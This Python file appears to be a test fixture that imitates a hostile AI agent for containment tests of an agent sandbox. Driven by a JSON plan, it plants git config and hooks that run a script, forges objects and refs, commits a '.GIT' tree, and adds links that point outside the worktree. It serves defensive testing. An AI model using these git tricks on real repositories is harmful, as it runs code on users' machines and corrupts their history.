"""A hostile `command` agent for the containment tests. It does what the ```hostile block of its
task says, as an agent that wants to hurt the user's machine would, then exits 0.

    python hostile_agent.py WORKTREE TASK_FILE

The block is JSON with any of these keys, done in this order:

    files      {path: text}    files to write in the worktree (folders made as needed)
    links      {path: target}  symbolic links to make in the worktree
    evil_gitdir  MARKER        point the worktree's .git file at a git dir the agent made, whose
                               config names programs (fsmonitor, hooks, pager, external diff)
                               that append to MARKER when git runs them
    git_config [KEY, VALUE]    `git config KEY VALUE` in the worktree's repository
    write_dotgit TEXT          write TEXT over the worktree's .git (file or folder)
    history_big SIZE           commit a file of SIZE bytes, then remove it in a second commit
    commit     true            `git add -A`, force-add the files and links above (ignored or
                               not), and commit
    forge_object [REV, TEXT, OBJECTS]  overwrite the loose object REV names (say main:README.md)
                               in the object folder OBJECTS with TEXT
    set_ref    [REF, REV, GITDIR]  point REF (say refs/heads/gasworks/gw-1234) of GITDIR at REV
    dotgit_commit true         commit a tree holding a `.GIT` folder, made with git's plumbing
    fifo       PATH            leave a FIFO in the worktree
    sparse     [PATH, SIZE]    leave a sparse file of SIZE bytes
    hardlink   [PATH, TARGET]  hard-link TARGET (outside the worktree) into it
    long_path  DEPTH           commit a path DEPTH folders deep, 200 characters each (plumbing)
    gitlink    PATH            commit a submodule entry at PATH (plumbing)
    replace    [REV, TEXT]     `git replace` the object REV names with a blob holding TEXT

Everything it could not do is printed as `FAILED <what>: <why>` so a test can tell the sandbox
stopped it from the defence never being reached.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import zlib
from pathlib import Path

EVIL_CONFIG = """[core]
\tfsmonitor = {hook}
\thooksPath = {hooks}
\tpager = {hook}
[diff]
\texternal = {hook}
"""


def git(worktree: Path, *args: str) -> str:
    return subprocess.run(["git", *args], cwd=worktree, check=True, capture_output=True, text=True).stdout


def evil_gitdir(worktree: Path, marker: str) -> None:
    evil = worktree / ".evil"
    subprocess.run(["git", "init", "-q", str(evil)], check=True)
    hook = worktree / "hook.sh"
    hook.write_text(f"#!/bin/sh\necho \"$0 $*\" >> {marker}\n")
    hook.chmod(0o755)
    hooks = worktree / "hooks"
    hooks.mkdir(exist_ok=True)
    for name in ("post-commit", "post-checkout", "pre-commit", "post-merge", "reference-transaction"):
        (hooks / name).write_text(hook.read_text())
        (hooks / name).chmod(0o755)
    (evil / ".git" / "config").write_text(EVIL_CONFIG.format(hook=hook, hooks=hooks), encoding="utf-8")
    (worktree / ".git").write_text(f"gitdir: {evil / '.git'}\n")


def forge_object(worktree: Path, rev: str, text: str, objects: str) -> None:
    oid = git(worktree, "rev-parse", rev).strip()
    path = Path(objects) / oid[:2] / oid[2:]
    body = text.encode()
    path.parent.mkdir(exist_ok=True)
    if path.exists():
        path.chmod(0o644)
    path.write_bytes(zlib.compress(b"blob %d\0" % len(body) + body))


def set_ref(worktree: Path, ref: str, rev: str, common: str) -> None:
    oid = git(worktree, "rev-parse", rev).strip()
    (Path(common) / ref).parent.mkdir(parents=True, exist_ok=True)
    (Path(common) / ref).write_text(oid + "\n")


def dotgit_commit(worktree: Path) -> None:
    """A commit whose tree holds a `.GIT` folder: checked out, git would take it for a repository."""
    blob = subprocess.run(["git", "hash-object", "-w", "--stdin"], cwd=worktree, input="[core]\n", text=True,
                          capture_output=True, check=True).stdout.strip()
    inner = subprocess.run(["git", "mktree"], cwd=worktree, input=f"100644 blob {blob}\tconfig\n", text=True,
                           capture_output=True, check=True).stdout.strip()
    top = subprocess.run(["git", "mktree"], cwd=worktree, input=f"040000 tree {inner}\t.GIT\n", text=True,
                         capture_output=True, check=True).stdout.strip()
    commit = git(worktree, "-c", "user.name=h", "-c", "user.email=h@h", "commit-tree", top, "-p", "HEAD",
                 "-m", "a .GIT folder").strip()
    git(worktree, "update-ref", "HEAD", commit)


def plumb(worktree: Path, entries: list[tuple[str, str, str]], message: str) -> None:
    """A commit on HEAD whose tree is HEAD's plus entries (mode, kind, id, name at the top), made
    with git's plumbing, which checks far less than `git add`."""
    listing = git(worktree, "ls-tree", "HEAD")
    listing += "".join(f"{mode} {kind} {oid}\t{name}\n" for mode, kind, oid, name in entries)
    tree = subprocess.run(["git", "mktree"], cwd=worktree, input=listing, text=True, capture_output=True,
                          check=True).stdout.strip()
    commit = git(worktree, "-c", "user.name=h", "-c", "user.email=h@h", "commit-tree", tree, "-p", "HEAD",
                 "-m", message).strip()
    git(worktree, "update-ref", "HEAD", commit)


def long_path(worktree: Path, depth: int) -> None:
    """A path of depth folders of 200 characters each: longer than any file system takes."""
    blob = subprocess.run(["git", "hash-object", "-w", "--stdin"], cwd=worktree, input="deep\n", text=True,
                          capture_output=True, check=True).stdout.strip()
    oid, kind, mode = blob, "blob", "100644"
    for level in range(depth):
        name = f"{level}" + "d" * 199 if level else "leaf.txt"
        oid = subprocess.run(["git", "mktree"], cwd=worktree, input=f"{mode} {kind} {oid}\t{name}\n", text=True,
                             capture_output=True, check=True).stdout.strip()
        kind, mode = "tree", "040000"
    plumb(worktree, [(mode, kind, oid, "deep")], "a very long path")


def history_big(worktree: Path, size: int) -> None:
    """Commit a file of size bytes, then a commit that removes it again."""
    identity = ["-c", "user.name=h", "-c", "user.email=h@h"]
    _write(worktree / "big.bin", "x" * size)
    git(worktree, "add", "big.bin")
    git(worktree, *identity, "commit", "-q", "-m", "big")
    git(worktree, "rm", "-q", "big.bin")
    _write(worktree / "small.txt", "small\n")
    git(worktree, "add", "small.txt")
    git(worktree, *identity, "commit", "-q", "-m", "gone again")


def main() -> int:
    worktree, task_file = Path(sys.argv[1]), Path(sys.argv[2])
    found = re.search(r"```hostile\n(.*?)\n```", task_file.read_text(encoding="utf-8"), re.S)
    plan = json.loads(found.group(1)) if found else {}
    steps = [
        ("files", lambda value: [_write(worktree / name, text) for name, text in value.items()]),
        ("links", lambda value: [os.symlink(target, worktree / name) for name, target in value.items()]),
        ("evil_gitdir", lambda value: evil_gitdir(worktree, value)),
        ("git_config", lambda value: git(worktree, "config", *value)),
        ("write_dotgit", lambda value: (worktree / ".git").write_text(value)),
        ("history_big", lambda value: history_big(worktree, value)),
        ("commit", lambda value: (git(worktree, "add", "-A"),
                                  git(worktree, "add", "-f", "--", *plan.get("files", {}), *plan.get("links", {})),
                                  git(worktree, "-c", "user.name=h", "-c", "user.email=h@h", "commit", "-q",
                                      "--no-verify", "-m", "hostile"))),
        ("forge_object", lambda value: forge_object(worktree, *value)),
        ("set_ref", lambda value: set_ref(worktree, *value)),
        ("dotgit_commit", lambda value: dotgit_commit(worktree)),
        ("fifo", lambda value: os.mkfifo(worktree / value)),
        ("sparse", lambda value: os.truncate(_touch(worktree / value[0]), value[1])),
        ("hardlink", lambda value: os.link(value[1], worktree / value[0])),
        ("long_path", lambda value: long_path(worktree, value)),
        ("gitlink", lambda value: plumb(worktree, [("160000", "commit", git(worktree, "rev-parse", "HEAD").strip(),
                                                    value)], "a submodule entry")),
        ("replace", lambda value: git(worktree, "replace", "-f", git(worktree, "rev-parse", value[0]).strip(),
                                      subprocess.run(["git", "hash-object", "-w", "--stdin"], cwd=worktree,
                                                     input=value[1], text=True, capture_output=True,
                                                     check=True).stdout.strip())),
    ]
    for key, step in steps:
        if key in plan:
            try:
                step(plan[key])
                print(f"DONE {key}", flush=True)
            except (OSError, subprocess.CalledProcessError) as exc:
                why = exc.stderr if isinstance(exc, subprocess.CalledProcessError) else exc.strerror
                print(f"FAILED {key}: {str(why).strip()}", flush=True)
    return 0


def _touch(path: Path) -> Path:
    path.touch()
    return path


def _write(path: Path, text: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")


if __name__ == "__main__":
    sys.exit(main())
